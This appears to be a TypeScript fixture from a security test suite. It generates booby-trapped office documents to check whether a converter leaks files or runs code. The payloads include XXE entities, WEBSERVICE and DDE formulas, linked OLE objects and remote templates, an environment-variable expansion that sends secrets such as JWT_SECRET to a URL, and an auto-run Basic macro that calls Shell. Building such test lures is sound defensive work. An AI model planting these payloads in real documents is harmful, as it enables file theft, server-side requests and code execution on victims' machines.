import { type Link, main, type OfficePart, ooxml, relationships } from '../../fixtures/ooxml.ts'
import { zipped } from '../../fixtures/zip.ts'
import type { Lure, Trap } from './lure.ts'

const spaces = Object.entries({
  office: 'urn:oasis:names:tc:opendocument:xmlns:office:1.0',
  text: 'urn:oasis:names:tc:opendocument:xmlns:text:1.0',
  table: 'urn:oasis:names:tc:opendocument:xmlns:table:1.0',
  draw: 'urn:oasis:names:tc:opendocument:xmlns:drawing:1.0',
  xlink: 'http://www.w3.org/1999/xlink',
  svg: 'urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0',
  of: 'urn:oasis:names:tc:opendocument:xmlns:of:1.2',
  script: 'urn:oasis:names:tc:opendocument:xmlns:script:1.0',
  ooo: 'http://openoffice.org/2004/office',
})
  .map(([prefix, name]) => `xmlns:${prefix}="${name}"`)
  .join(' ')

/** Makes an OOXML text document around a body. */
const docx = (body: string, links: readonly Link[], more: Readonly<Record<string, OfficePart>> = {}) =>
  ooxml({
    'word/document.xml': {
      type: 'wordprocessingml.document.main',
      content: `<w:document xmlns:w="${main('wordprocessingml')}" xmlns:r="${relationships}" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml"><w:body><w:p><w:r><w:t>text</w:t></w:r></w:p>${body}</w:body></w:document>`,
      links,
    },
    ...more,
  })

const picture = (id: string) =>
  `<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="1270000" cy="1270000"/><wp:docPr id="1" name="p"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="0" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="${id}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="1270000" cy="1270000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`

const field = (code: string) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r><w:r><w:instrText xml:space="preserve">${code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>f</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`

/** OpenDocument and OOXML documents with links, calls, embedded files and macros. */
export const documents: Trap = async ({ folder, url, prey }) => {
  const file = (name: string) => `file://${folder}/${name}`
  const flat = (kind: string, body: string, more = '') =>
    `<?xml version="1.0"?><office:document ${spaces} office:version="1.2" office:mimetype="application/vnd.oasis.opendocument.${kind}">${more}<office:body>${body}</office:body></office:document>`
  const image = (href: string) =>
    `<draw:frame svg:width="3cm" svg:height="3cm"><draw:image xlink:href="${href}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame>`
  const linked = `<office:text><text:p>text ${image(file('secret.png'))}${image(`${url}/a.png`)}${image(`../../../../../../..${folder}/secret.png`)}
    <draw:frame svg:width="3cm" svg:height="3cm"><draw:object-ole xlink:href="${file('secret.txt')}" xlink:type="simple"/></draw:frame>
    <draw:frame svg:width="3cm" svg:height="3cm"><draw:floating-frame xlink:href="${url}/frame.html" xlink:type="simple"/></draw:frame></text:p>
    <text:section text:name="s"><text:section-source xlink:href="${file('secret.txt')}" text:filter-name="Text"/><text:p>section</text:p></text:section>
    <text:section text:name="d"><office:dde-source office:dde-application="soffice" office:dde-topic="${folder}/secret.txt" office:dde-item="x" office:automatic-update="true"/><text:p>dde</text:p></text:section></office:text>`
  const calls = `<office:spreadsheet><table:table table:name="A"><table:table-source xlink:href="${file('secret.csv')}" xlink:type="simple" table:mode="copy-all" table:filter-name="Text - txt - csv (StarCalc)" table:refresh-delay="PT1S"/><table:table-row>
    <table:table-cell table:formula="of:=WEBSERVICE(&quot;${url}/webservice&quot;)"/><table:table-cell table:formula="of:=WEBSERVICE(&quot;${file('secret.txt')}&quot;)"/>
    <table:table-cell table:formula="of:='${file('secret.csv')}'#$secret.A1"/><table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;${folder}/secret.txt&quot;;&quot;x&quot;)"/><table:table-cell table:formula="of:=FILTERXML(WEBSERVICE(&quot;${url}/x&quot;);&quot;//a&quot;)"/></table:table-row></table:table></office:spreadsheet>`
  const basic = `<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries><ooo:library-embedded ooo:name="Standard"><ooo:module ooo:name="M"><ooo:source-code>Sub Main
Shell "touch ${prey}/macro"
End Sub</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></office:script><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"/></office:event-listeners></office:scripts>`
  const expand = ['HOME', 'PATH', 'JWT_SECRET'].map((name) => image(`vnd.sun.star.expand:${url}/$${name}.png`)).join('')
  const manifest = (kind: string) =>
    `<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.${kind}"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`
  const packed = (kind: string, body: string) =>
    zipped({
      mimetype: `application/vnd.oasis.opendocument.${kind}`,
      'content.xml': `<?xml version="1.0"?><!DOCTYPE office:document-content [<!ENTITY x SYSTEM "${file('secret.txt')}">]><office:document-content ${spaces} office:version="1.2"><office:body>${body}</office:body></office:document-content>`,
      'META-INF/manifest.xml': manifest(kind),
    })
  const workbook = await ooxml({
    'xl/workbook.xml': {
      type: 'spreadsheetml.sheet.main',
      content: `<workbook xmlns="${main('spreadsheetml')}" xmlns:r="${relationships}"><sheets><sheet name="A" sheetId="1" r:id="r1"/></sheets><externalReferences><externalReference r:id="r2"/></externalReferences><calcPr fullCalcOnLoad="1"/></workbook>`,
      links: [
        ['r1', 'worksheet', 'worksheets/sheet1.xml'],
        ['r2', 'externalLink', 'externalLinks/externalLink1.xml'],
      ],
    },
    'xl/worksheets/sheet1.xml': {
      type: 'spreadsheetml.worksheet',
      content: `<worksheet xmlns="${main('spreadsheetml')}"><sheetData><row r="1"><c r="A1"><f>_xlfn.WEBSERVICE("${url}/xlsx")</f><v>0</v></c><c r="B1"><f>[1]secret!A1</f><v>0</v></c><c r="C1"><v>1</v></c></row></sheetData></worksheet>`,
    },
    'xl/externalLinks/externalLink1.xml': {
      type: 'spreadsheetml.externalLink',
      content: `<externalLink xmlns="${main('spreadsheetml')}"><externalBook xmlns:r="${relationships}" r:id="r1"><sheetNames><sheetName val="secret"/></sheetNames></externalBook></externalLink>`,
      links: [['r1', 'externalLinkPath', file('secret.csv'), true]],
    },
  })
  const lures: Lure[] = [
    { what: 'a flat text with links', name: 'a.fodt', content: flat('text', linked) },
    { what: 'a text with links', name: 'a.odt', content: await packed('text', linked) },
    { what: 'a flat sheet that calls', name: 'a.fods', content: flat('spreadsheet', calls) },
    { what: 'a sheet that calls', name: 'a.ods', content: await packed('spreadsheet', calls) },
    {
      what: 'a macro that runs on loading',
      name: 'm.fodt',
      content: flat('text', '<office:text><text:p>m</text:p></office:text>', basic),
    },
    {
      what: 'addresses made of the environment',
      name: 'e.fodt',
      content: flat('text', `<office:text><text:p>text ${expand}</text:p></office:text>`),
    },
    {
      what: 'a presentation with links',
      name: 'a.fodp',
      content: flat(
        'presentation',
        `<office:presentation><draw:page draw:name="p">${image(file('secret.png'))}${image(`${url}/a.png`)}</draw:page></office:presentation>`,
      ),
    },
    {
      what: 'linked pictures, fields and a chunk of HTML',
      name: 'a.docx',
      content: await docx(
        [
          picture('r2'),
          picture('r3'),
          '<w:altChunk r:id="r4"/>',

          ` INCLUDETEXT "${folder}/secret.txt" `,
          ` INCLUDEPICTURE "${url}/field.png" `,
          ` DDEAUTO soffice "${folder}/secret.txt" x `,
        ]
          .map((part, index) => (index < 3 ? part : field(part)))
          .join(''),
        [
          ['r2', 'image', `${url}/a.png`, true],
          ['r3', 'image', file('secret.png'), true],
          ['r4', 'aFChunk', `${url}/chunk.html`, true],
        ],
      ),
    },
    {
      what: 'a template from elsewhere',
      name: 't.docx',
      content: await docx('', [['r1', 'settings', 'settings.xml']], {
        'word/settings.xml': {
          type: 'wordprocessingml.settings',
          content: `<w:settings xmlns:w="${main('wordprocessingml')}"><w:attachedTemplate r:id="r1" xmlns:r="${relationships}"/></w:settings>`,
          links: [['r1', 'attachedTemplate', `${url}/template.dotm`, true]],
        },
      }),
    },
    {
      what: 'an object that is linked (OLE)',
      name: 'o.docx',
      content: await docx(
        '<w:p><w:r><w:object><v:shape id="s" style="width:90pt;height:90pt"/><o:OLEObject Type="Link" ProgID="Word.Document.8" ShapeID="s" DrawAspect="Content" ObjectID="_1" r:id="r2" UpdateMode="Always"/></w:object></w:r></w:p>',
        [['r2', 'oleObject', file('secret.txt'), true]],
      ),
    },
    { what: 'a workbook that calls', name: 'a.xlsx', content: workbook },
    {
      what: 'Rich Text with a linked picture, a template and fields',
      name: 'a.rtf',
      content: `{\\rtf1\\ansi{\\*\\template ${url}/t.dotm}text{\\field\\flddirty{\\*\\fldinst { INCLUDEPICTURE "${url}/rtf.png" \\\\d }}{\\fldrslt x}}{\\field\\flddirty{\\*\\fldinst { INCLUDETEXT "${folder}/secret.txt" }}{\\fldrslt x}}{\\field{\\*\\fldinst { DDEAUTO soffice "${folder}/secret.txt" x }}{\\fldrslt x}}\\par}`,
    },
    {
      what: 'HTML under the name of a document',
      name: 'h.doc',
      content: `<html><body><img src="${url}/doc.png"><iframe src="${file('secret.html')}"></iframe></body></html>`,
    },
  ]
  return lures
}
